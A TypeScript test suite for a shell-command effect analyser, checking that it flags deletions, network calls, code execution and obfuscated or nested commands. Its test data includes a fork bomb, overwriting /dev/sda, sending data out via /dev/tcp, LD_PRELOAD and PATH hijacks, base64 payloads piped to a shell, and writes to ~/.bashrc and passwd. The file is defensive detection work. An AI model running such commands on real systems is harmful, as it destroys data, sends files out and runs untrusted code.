import type { Effect } from '@countersign/kernel';
import { describe, expect, it } from 'vitest';
import type { Program } from '../programs/program.ts';
import { NotHere } from '../reader.ts';
import { contextOfLine, effectsOfLine } from './testing.ts';
import { readShell } from './read.ts';

/** Small tables of names that no shipped table has: what is tested here is the shell. */
const PROGRAMS: readonly Program[] = [
  { names: ['wreck'], options: '-r', does: [{ kind: 'delete', on: '*', deep: true }] },
  { names: ['show'], does: [{ kind: 'read', on: '*' }] },
  { names: ['send'], does: [{ kind: 'network', on: '0', type: 'host' }] },
  {
    names: ['wrap'],
    syntax: 'posix',
    options: '-u=',
    does: [{ kind: 'identity_change', type: 'user', on: '-u' }],
    runs: [{ as: 'argv', from: '*' }],
  },
  { names: ['each'], syntax: 'posix', options: '-I=', runs: [{ as: 'argv', from: '*', more: true }] },
  { names: ['vars'], syntax: 'posix', runs: [{ as: 'argv', from: '*', assignments: true }] },
  {
    names: ['mysh'],
    syntax: 'posix',
    options: '-c',
    runs: [
      { as: 'shell', from: '0', when: '-c' },
      { as: 'shell', stdin: true, when: '!-c #=0' },
    ],
  },
  { names: ['mypy'], syntax: 'posix', options: '-c=', runs: [{ as: { kind: 'script', dialect: 'python' }, from: '-c' }] },
  { names: ['at-host'], syntax: 'posix', runs: [{ as: 'shell', from: '1..', at: { type: 'host', on: '0' } }] },
];

const cx = contextOfLine({ catalogue: { functions: {}, tools: [], programs: PROGRAMS } });

function told(line: string): string[] {
  const { effects } = readShell({ kind: 'shell', text: line }, contextOf());
  return effects
    .filter(({ kind }) => kind !== 'none' && kind !== 'session')
    .map(({ kind, scope, targets }) => `${kind} ${scope}${targets.map(({ name }) => ` ${name}`).join('')}`);
}

function contextOf() {
  const own = {
    ...cx,
    embedded: (inner: Parameters<typeof cx.embedded>[0]) =>
      inner.kind === 'shell' ? readShell(inner, { ...own, depth: own.depth + 1 }) : cx.embedded(inner),
  };
  return own;
}

function first(line: string): Effect | undefined {
  return readShell({ kind: 'shell', text: line }, contextOf()).effects.find(({ kind }) => kind !== 'none' && kind !== 'session');
}

describe('words', () => {
  it.each([
    'wreck /etc',
    '\\wreck /etc',
    'wr"ec"k /etc',
    "'wreck' '/etc'",
    "$'\\x77reck' $'/e\\164c'",
    'wreck \\\n  /etc',
    'wreck /tmp/../etc/',
    '{wreck,/etc}',
    'wreck /{etc,tmp/x}/',
    'X=wreck; $X /etc',
    'X="wreck /etc"; $X',
    'X=/e; X+=tc; wreck $X',
    'A=(wreck /etc); "${A[@]}"',
    '$(echo wreck) /etc',
    'wreck "$(printf %s /etc)"',
    'f() { wreck "$1"; }; f /etc',
    'f() { wreck "$@"; }; f /tmp/a /etc',
    'g() { wreck "$x"; }; f() { local x=/etc; g; }; f',
    'set -- /etc; wreck $1',
    'for d in /tmp/a /etc; do wreck $d; done',
    'cd /; wreck etc',
    'cd /tmp && cd ../etc && wreck .',
    '/usr/bin/wreck /etc',
    'X=/etc; f() { local X=/tmp/a; }; f; wreck $X',
    'alias w="wreck /etc"; w',
  ])('%s', (line) => {
    expect(told(line).find((one) => one.startsWith('delete unbounded'))).toBeDefined();
  });

  it.each([
    ['wreck $X', 'not set in the text'],
    ['X=/tmp/a; read X; wreck $X', 'read from outside'],
    ['X=/; false && X=/tmp/a; wreck $X', 'perhaps set again'],
    ['X=/; if y; then X=/tmp/a; fi; wreck $X', 'set in a branch'],
    ['X=/; case $y in a) X=/tmp/a;; esac; wreck $X', 'set in a case'],
    ['X=/; y || X=/tmp/a; wreck $X', 'set if something fails'],
    ['X=/tmp/a; . ./env; wreck $X', 'a sourced file may set it'],
    ['X=/tmp/a; source ./env; wreck $X', 'a sourced file may set it'],
    ['TMPDIR=/x wreck $TMPDIR/y', 'not the folder that it usually is'],
    ['TMPDIR=$(show x); wreck $TMPDIR/y', 'set to what a command prints'],
    ['X=/tmp/a; printf -v X %s /; wreck $X', 'printed into'],
    ['X=/tmp/a; eval "$y"; unset X; wreck $X', 'taken away'],
    ['readonly X=/; X=/tmp/a; wreck $X', 'not assignable'],
    ['declare -l X=/TMP/A; wreck $X', 'written otherwise'],
    ['declare -n r=X; X=/tmp/a; r=/; wreck $X', 'known by another name'],
    ['wreck ~+/x', 'the folder of the moment'],
    ['if y; then cd /; fi; wreck etc', 'perhaps in another folder'],
    ['cd "$y"; wreck etc', 'in a folder that is not known'],
    ['cd -; wreck etc', 'in the folder before'],
    ['X=/tmp/a; mysh -c "wreck \\$X"', 'not exported'],
  ])('%s is not known: %s', (line) => {
    expect(told(line)).toContainEqual(expect.stringMatching(/^delete unknown/));
  });

  it.each([
    'X=/tmp/a; for i in 1 2 3; do wreck $X; X=/; done',
    'X=/tmp/a; while show x; do wreck $X; X=/etc/$X; done',
    'X=/; echo a | X=/tmp/a; wreck $X',
    'X=/; (X=/tmp/a); wreck $X',
    'X=/; echo "$(X=/tmp/a)"; wreck $X',
    'HOME=/; wreck ~/etc',
    'wreck "${HOME:?}"',
    'wreck "${HOME:-/tmp}"/*',
    'cd /etc; wreck $PWD/x',
    'cd /etc; wreck "$(pwd)"/x',
    'wreck() { :; }; command wreck /etc',
    'wreck() { :; }; unset -f wreck; wreck /etc',
  ])('%s is followed', (line) => {
    expect(told(line)).toContainEqual(expect.stringMatching(/^delete un/));
  });

  it.each([
    '$X a',
    '`show x` a',
    '"$(show x)" a',
    '/usr/bin/wr?ck /tmp/a',
    '${X:-wreck} /tmp/a',
    'IFS=_; X=wreck_/etc; $X',
    '$((1)) a',
  ])('%s has a command that is only known at run time', (line) => {
    expect(told(line)).toContainEqual(expect.stringMatching(/^opaque/));
  });

  it('reads programs by path only from the system', () => {
    expect(told('./wreck /tmp/a')).toEqual(['code_execution unknown ./wreck', 'opaque unknown']);
    expect(told('/bin/wreck /tmp/a')).toEqual(['delete bounded /tmp/a']);
    expect(told('nosuch --help')).toEqual(['opaque unknown']);
  });
});

describe('the folder that a path is seen from', () => {
  it.each([
    ['cd /repo && wreck -r src', 'delete unknown src'],
    ['cd /repo && wreck -r dist', 'delete bounded dist'],
    ['cd /repo && wreck -r ../other', 'delete unbounded ../other'],
    ['cd ~/project && wreck -r src', 'delete bounded src'],
    ['cd ~ && wreck -r project', 'delete unbounded project'],
    ['cd /tmp/x && wreck -r y', 'delete bounded y'],
    ['cd sub && wreck -r y', 'delete bounded y'],
    ['cd sub && wreck -r ../..', 'delete unbounded ../..'],
    ['cd .. && wreck -r y', 'delete unbounded y'],
    ['cd / && wreck -r etc', 'delete unbounded etc'],
    ['cd "$x" && wreck -r dist', 'delete bounded dist'],
  ])('%s: %s', (line, expected) => {
    expect(told(line)[0]).toBe(expected);
  });
});

describe('commands inside commands', () => {
  const forms = (command: string): string[] => [
    `(${command})`,
    `{ ${command}; }`,
    `if ${command}; then :; fi`,
    `while ${command}; do :; done`,
    `case x in x) ${command};; esac`,
    `! ${command}`,
    `time ${command}`,
    `coproc ${command}`,
    `${command} &`,
    `show x | ${command}`,
    `show x || ${command}`,
    `show "$(${command})"`,
    `show \`${command}\``,
    `show <(${command})`,
    `show > >(${command})`,
    `: \${X:=$(${command})}`,
    `echo $(( $(${command}) ))`,
    `[[ -n $(${command}) ]]`,
    `A[$(${command})]=1`,
    `show <<E\n$(${command})\nE`,
    `show <<< "$(${command})"`,
    `export X="$(${command})"`,
    `X=$(${command}) show y`,
    `f() { ${command}; }; f`,
    `eval '${command}'`,
    `eval ${command}`,
    `trap '${command}' EXIT`,
    `wrap -u root ${command}`,
    `vars A=1 ${command}`,
    `mysh -c '${command}'`,
    `mysh <<'E'\n${command}\nE`,
    `mysh <<< '${command}'`,
    `echo '${command}' | mysh`,
    `printf '%s' '${command}' | wrap mysh`,
    `mysh -c "mysh -c '${command}'"`,
    `at-host web '${command}'`,
    `echo ${btoa(command)} | base64 -d | mysh`,
  ];
  it.each(forms('wreck /etc'))('%s', (line) => {
    expect(told(line).find((one) => one.startsWith('delete unbounded'))).toBeDefined();
  });
  it.each(forms('wreck a').filter((line) => !line.includes('${X:=')))('%s is no worse than it is', (line) => {
    expect(told(line).find((one) => one.startsWith('delete unbounded'))).toBeUndefined();
  });

  it('does not take text for commands', () => {
    for (const line of [
      "echo 'wreck /etc'",
      'show <<E\nwreck /etc\nE',
      'show x # wreck /etc',
      'f() { wreck /etc; }',
      'echo "$((wreck / etc))"',
    ])
      expect(told(line).filter((one) => one.startsWith('delete'))).toEqual([]);
  });

  it('does not trust a function that may not have been defined', () => {
    expect(told('false && wreck() { :; }; wreck /etc')).toContain('delete unbounded /etc');
    expect(told('wreck() { :; }; wrap wreck /etc')).toContain('delete unbounded /etc');
    expect(told('wreck() { :; }; wreck /etc')).toEqual([]);
  });

  it('appends what is only known at run time', () => {
    expect(told('each wreck')).toEqual(['delete unknown $input']);
    expect(told('echo / | each wreck')).toEqual(['delete unbounded /']);
    expect(told('echo / | each -I% wreck %')).toEqual(['delete unbounded /']);
  });

  it('knows what find lists, by its tests', () => {
    const deleted = (line: string): string[] => told(line).filter((one) => one.startsWith('delete'));
    expect(deleted("find . -name '*.tmp' | each wreck")).toEqual(['delete bounded ./*.tmp']);
    expect(deleted("find . -name '*.tmp' | sort | each -I% wreck %")).toEqual(['delete bounded ./*.tmp']);
    expect(deleted("wreck $(find sub -name '*.tmp')")).toEqual(['delete bounded sub/*.tmp']);
    expect(deleted('find . -name \'*.tmp\' | while read -r x; do wreck "$x"; done')).toEqual(['delete bounded ./*.tmp']);
    for (const line of [
      'find . -type f | each wreck',
      "find . -name '*' | each wreck",
      "find . -name '*.tmp' -o -type f | each wreck",
      "find . ! -name '*.tmp' | each wreck",
      "{ echo $X; find . -name '*.tmp'; } | each wreck",
      "f() { show x; find . -name '*.tmp'; }; f | each wreck",
      "find . -name '*.tmp' | { show x; grep y; } | each wreck",
      "find . -name '*.tmp' | each show | each wreck",
      "wreck $(show x; find . -name '*.tmp')",
    ])
      expect(deleted(line), line).toContainEqual(expect.stringMatching(/^delete unknown/));
  });

  it('knows code that comes from elsewhere', () => {
    expect(told('send host | mysh')).toEqual(['network one host', 'code_execution unknown', 'opaque unknown']);
    expect(told('mysh -c "$(send host)"').some((one) => one.startsWith('code_execution'))).toBe(true);
    expect(told('mysh < script.sh').some((one) => one.startsWith('code_execution'))).toBe(true);
    expect(told("mypy -c 'print(1)'")).toEqual(['opaque unknown']);
    expect(told('. ./lib.sh').some((one) => one.startsWith('code_execution'))).toBe(true);
  });

  it('sees a fork bomb and other recursion', () => {
    expect(told(':(){ :|:& };:')).toContain('process_control unbounded');
    expect(told('f() { wreck "$1"; f /etc; }; f /tmp/a')).toContain('delete unbounded /etc');
  });
});

describe('redirections and data', () => {
  it.each([
    ['show a > b', ['write one b', 'read one a']],
    ['show a >> b', ['write one b', 'read one a']],
    ['show a > /dev/null 2>&1', ['read one a']],
    ['show < a', ['read one a']],
    ['show a &> ~/.bashrc', ['write one ~/.bashrc', 'persistence one ~/.bashrc', 'read one a']],
    ['> /dev/sda', ['delete unbounded /dev/sda']],
    ['cd /etc; > passwd', ['write one passwd', 'privilege_change one passwd']],
    ['{ show a; show b; } > c', ['write one c', 'read one a', 'read one b']],
    ['exec 3<>/dev/tcp/h.example/80', ['network one /dev/tcp/h.example/80']],
  ])('%s', (line, expected) => {
    expect(told(line)).toEqual(expected);
  });

  it.each(['show a > /dev/tcp/h/80', 'send "h/$(show a)"', 'X=$(show a); send "h/$X"', 'while read l; do send $l; done < a'])(
    '%s takes data out',
    (line) => {
      expect(told(line).some((one) => one.startsWith('export'))).toBe(true);
    },
  );

  it('does not take an echo for data', () => {
    expect(told('echo hi > /dev/tcp/h/80').some((one) => one.startsWith('export'))).toBe(false);
    expect(told('send h')).toEqual(['network one h']);
    expect(told('ssh h uptime < /dev/null').some((one) => one.startsWith('export'))).toBe(false);
  });
});

describe('variables of the environment', () => {
  it.each([
    'PATH=/tmp:$PATH show a',
    'export PATH=.:$PATH',
    'LD_PRELOAD=./x.so show a',
    'vars LD_PRELOAD=x show a',
    'BASH_ENV=x mysh -c "show a"',
    'PROMPT_COMMAND=$X',
    'PAGER="$X" show a',
    'GIT_SSH_COMMAND="wreck /etc" show a',
  ])('%s changes what runs', (line) => {
    expect(told(line).some((one) => /^(?:code_execution|delete unbounded|opaque)/.test(one))).toBe(true);
  });
  it.each([
    'PATH=$PATH:/opt/x/bin show a',
    'PATH=/usr/bin:/bin show a',
    'PAGER=cat show a',
    'NODE_OPTIONS=--max-old-space-size=4096 show a',
    'IFS= read -r x',
    'FOO=1 show a',
  ])('%s does not', (line) => {
    expect(told(line).filter((one) => !one.startsWith('read'))).toEqual([]);
  });
});

describe('where it happened', () => {
  it('points at the words, through wrappers and quotes', () => {
    const line = 'wrap -u root mysh -c "wreck /etc"';
    const effect = first('mysh -c "wreck /etc"');
    expect(effect).toMatchObject({ kind: 'delete', via: 'mysh', span: { start: 15, end: 19 } });
    const deletions = readShell({ kind: 'shell', text: line }, contextOf()).effects.filter(({ kind }) => kind === 'delete');
    expect(deletions.map(({ via }) => via)).toEqual(['wrap › mysh']);
  });
  it('names where it runs', () => {
    expect(first("at-host web1 'wreck /etc'")?.targets).toEqual([
      { type: 'file', name: '/etc' },
      { type: 'host', name: 'web1' },
    ]);
  });
  it('gives the same text for commands that differ in their values', () => {
    const normalised = (text: string): string => readShell({ kind: 'shell', text }, contextOf()).normalised;
    expect(normalised('wreck -r a | show "b c"')).toBe('wreck -r ? | show ?');
    expect(normalised('A=secret wrap -u me wreck a b > c')).toBe('A=? wrap -u ? wreck ? ? > ?');
    expect(normalised("mysh -c 'wreck a' <<E\nx\nE")).toBe('mysh -c ? <<E\n?E');
    expect(normalised('vars T=secret nosuch -p secret; ./x secret')).toBe('vars ? nosuch ? ?; ./x ?');
    expect(normalised('echo a | each wreck -r 2>&1')).toBe('echo ? | each wreck -r 2>&1');
  });
});

describe('what cannot be read', () => {
  it.each(["wreck /tmp/a 'x", 'if show a', 'show a )', 'show <<E\nx', ''])('%s', (text) => {
    expect(readShell({ kind: 'shell', text }, contextOf()).complete).toBe(false);
  });
  it('sends long and tangled texts to the worker', () => {
    const here = { ...contextOf(), place: 'here' as const };
    for (const text of [
      `echo ${'a'.repeat(9_000)}`,
      'echo '.concat('$(echo '.repeat(33), ')'.repeat(33)),
      'show <<E\nE\n'.repeat(17),
    ])
      expect(() => readShell({ kind: 'shell', text }, here)).toThrow(NotHere);
  });
  it("is what the operator's table does not say rightly", () => {
    const programs: Program[] = [{ names: ['odd'], does: [{ kind: 'write', when: '#many' }] }];
    const { effects } = readShell(
      { kind: 'shell', text: 'odd a' },
      contextOfLine({ catalogue: { functions: {}, tools: [], programs } }),
    );
    expect(effects).toMatchObject([{ kind: 'opaque', why: 'the table of odd cannot be used: not a condition: #many' }]);
  });
  it('stops at functions that multiply', () => {
    const text = `f0() { show a; }; ${Array.from({ length: 20 }, (_, at) => `f${at + 1}() { f${at}; f${at}; };`).join(' ')} f20`;
    expect(effectsOfLine(text).some(({ kind, why }) => kind === 'opaque' && why.startsWith('too many commands'))).toBe(true);
  });
});
